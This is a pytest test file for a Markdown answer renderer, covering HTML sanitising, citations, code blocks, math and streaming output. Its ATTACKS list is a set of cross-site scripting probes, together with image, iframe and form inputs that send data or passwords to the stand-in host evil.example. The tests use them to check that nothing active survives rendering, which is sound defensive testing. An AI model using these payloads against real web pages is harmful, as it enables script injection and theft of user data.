import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from playground.rendering import render_answer, render_settled
from playground.support.scores import Support

HARMLESS_TAGS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li"),
    *("h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td"),
    *("div", "span", "button"),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/" onerror="alert(1))',
    "![x](https://evil.example/?leak=secret)",
    '[x](https://a.example "onmouseover=alert(1) \\" onclick=alert(1)")',
    "<https://a.example/?<script>>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<style>*{display:none}</style>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<b onclick=alert(1)>x</b>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "[1](javascript:alert(1))",
    "<!--><script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_survives(attack):
    html = render_answer(attack, numbers={1}, url="/prompts/x/sources/")

    assert set(re.findall(r"</?([a-zA-Z0-9]+)", html)) <= HARMLESS_TAGS
    for tag in re.findall(r"<[a-z][^>]*>", html):
        assert not re.search(r"\son\w+\s*=\s*[^\"]|\sstyle=|\ssrc=", re.sub(r'"[^"]*"', '""', tag))
        assert not re.search(r'href="\s*(javascript|data|vbscript):', tag, re.IGNORECASE)


def test_images_are_links_and_are_not_fetched():
    html = render_answer("![a map](https://a.example/map.png)")

    assert '<a href="https://a.example/map.png"' in html
    assert "a map</a>" in html


def test_links_lead_away_without_a_trace():
    assert 'rel="noopener nofollow noreferrer"' in render_answer("[x](https://a.example)")


@pytest.mark.parametrize(
    ("text", "cited"),
    [
        ("Yes [1].", [1]),
        ("Yes [1][2].", [1, 2]),
        ("Yes [1, 3].", [1, 3]),
        ("**Yes [2]**", [2]),
        ("- a [1]\n- b [2]", [1, 2]),
        ("| a |\n|---|\n| [3] |", [3]),
        ("Not there: [9] and [1, 9].", []),
        ("`[1]` is code", []),
        ("```\n[1]\n```", []),
        ("[see [1]](https://a.example)", []),
        ("[1](https://a.example)", []),
        ("[1]: https://a.example", [1]),
        ("An index like a[0] or [x]", []),
    ],
)
def test_citations_that_exist_become_links(text, cited):
    html = render_answer(text, numbers={1, 2, 3}, url="/prompts/p/sources/")

    assert [int(number) for number in re.findall(r'data-cite="(\d+)"', html)] == cited
    for number in cited:
        assert f'href="/prompts/p/sources/{number}/"' in html


def test_markdown_is_rendered_below_the_headings_of_the_page():
    html = render_answer("# Title\n\nText with *stress*, `code`\nand a second line.\n\n1. one\n")

    assert "<h3>Title</h3>" in html
    assert "<em>stress</em>, <code>code</code><br" in html
    assert "<ol>" in html


def test_code_is_coloured_by_classes_and_can_be_copied():
    html = render_answer('```python\ndef f():\n    return "<b>"\n```')

    assert '<span class="k">def</span> <span class="f">f</span>' in html
    assert "&lt;b&gt;" in html
    assert '<div class="code-head"><span>python</span><button' in html
    assert 'type="button"' in html
    assert "data-copy-code" in html


@pytest.mark.parametrize("info", ["klingon", "", 'x"><script>', "python" * 20])
def test_code_of_a_language_that_is_not_known_is_shown_as_it_is(info):
    html = render_answer(f"```{info}\na < b\n```")

    assert "<code>a &lt; b\n</code>" in html
    assert "<script" not in html


def test_code_of_any_length_is_shown():
    code = "x = 1\n" * 10_000

    html = render_answer(f"```python\n{code}```")

    assert f"<code>{code}</code>" in html


def test_tables_scroll_by_themselves_and_keep_how_they_are_aligned():
    html = render_answer("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |")

    assert '<div class="table-scroll" tabindex="0"><table>' in html
    assert '<td>1</td>\n<td class="is-right">2</td>\n<td class="is-center">3</td>' in html


@pytest.mark.parametrize(
    "math",
    [
        "$x$",
        "$a_1 * b_1 * c_1$",
        r"\(a_i + b_i\)",
        r"\[ \frac{1}{2} \]",
        "$$e^{i\\pi} = -1$$",
        "$$\n\\sum_i x_i\n+ y\n$$",
        "\\[\na \\\\\nb\n\\]",
        "$x < y$",
    ],
)
def test_math_is_text_that_markdown_leaves_alone(math):
    html = render_answer(f"{math}\n", numbers={1})

    [found] = re.findall(r'class="math"[^>]*>([^<]*)</', html)
    assert found == math.replace("<", "&lt;")


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5, and then $10.",
        "From $5 to *10$* it is",
        "$ x + y $",
        "a \\( b",
        "`$x^2$`",
        "\\[1\\] is a note",
    ],
)
def test_money_and_what_has_no_end_is_no_math(text):
    assert "math" not in render_answer(text)


def test_a_formula_ends_at_a_blank_line():
    html = render_answer("$$\na *b* c\n\nand *d*")

    assert html == ('<div class="math" tabindex="0">$$\na *b* c</div>\n<p>and <em>d</em></p>\n')


def test_openings_without_an_end_take_no_time_worth_telling():
    text = "\\(a $x_ \\[ $$" * 20_000

    assert "math" not in render_answer(text[:100_000].replace("$$", "\n"))


def test_without_an_address_citations_are_set_off_only():
    assert render_answer("Yes [1].", numbers={1}) == '<p>Yes <span class="cite">1</span>.</p>\n'


BLOCKS = [
    "A paragraph with **stress** [1]\nand a line.",
    "# Heading",
    "#no heading",
    "- one\n- two",
    "- one\n\n- two, loose",
    "1. one\n2. two",
    "> quoted\nlazily",
    "```python\ndef f():\n\n    return 1\n```",
    "~~~\nopen to the end\n",
    "    indented\n\n    code",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "Title\n===",
    "Other\n---",
    "---",
    "$$\na\n+ b\n$$",
    "$$\nno end",
    "\\[ x \\]",
    "Emoji 😀 and\ttabs",
    "[1]: https://a.example",
]


@given(
    blocks=st.lists(st.sampled_from(BLOCKS), min_size=1, max_size=6),
    joints=st.lists(st.sampled_from(["\n", "\n\n", "\r\n\r\n", "\n \n"]), min_size=6, max_size=6),
    cuts=st.lists(st.integers(0, 300), max_size=8),
)
@settings(deadline=None, max_examples=300)
def test_what_is_settled_never_changes_whatever_follows(blocks, joints, cuts):
    text = "".join(block + joint for block, joint in zip(blocks, joints, strict=False))
    units = text.encode("utf-16-le")
    html, length = "", 0

    for cut in sorted(cuts):
        # Pieces end between characters.
        known = units[: 2 * cut].decode("utf-16-le", errors="ignore").encode("utf-16-le")
        piece = known[2 * length :].decode("utf-16-le")
        settled = render_settled(piece, numbers={1})
        html += settled.html
        length += settled.length

    rest = units[2 * length :].decode("utf-16-le")
    assert html + render_answer(rest, numbers={1}) == render_answer(text, numbers={1})


@pytest.mark.parametrize(
    ("text", "settled"),
    [
        ("", ""),
        ("A line", ""),
        ("A line\n", ""),
        ("A line\n\n", "A line\n\n"),
        ("One\n\n\nTwo\nlines\n", "One\n\n\n"),
        ("# Heading\n", "# Heading\n"),
        ("```\na\n\nb\n", ""),
        ("```\na\n```\n", "```\na\n```\n"),
        ("````\n```\n", ""),
        ("- one\n\n", ""),
        ("> one\n\n", ""),
        ("- one\n\ntwo\n", "- one\n\n"),
        ("| a |\n|---|\n", ""),
        ("| a |\n|---|\n\n", "| a |\n|---|\n\n"),
        ("$$\na\n", ""),
    ],
)
def test_a_block_is_settled_as_soon_as_nothing_can_be_added_to_it(text, settled):
    assert render_settled(text).length == len(settled)


def test_an_answer_is_rendered_once_and_anew_when_what_is_known_of_it_changes():
    text = "Opened items get **store credit** until day 60 [1]."
    support = [Support(score=0.1, number=1, is_cited=True)]

    first = render_answer(text, numbers={1}, url="/prompts/1/sources/")

    assert render_answer(text, numbers=[1], url="/prompts/1/sources/") is first
    assert "/prompts/2/" in render_answer(text, numbers={1}, url="/prompts/2/sources/")
    assert 'data-support="none"' not in first
    assert 'data-support="none"' in render_answer(
        text, numbers={1}, url="/prompts/1/sources/", support=support
    )


def test_what_is_shown_once_or_is_long_takes_no_place_of_others():
    settled = "Opened items get store credit.\n\n"
    long = "Opened items get store credit. " * 300

    assert render_settled(settled).html is not render_settled(settled).html
    assert render_answer(long) == render_answer(long)
    assert render_answer(long) is not render_answer(long)
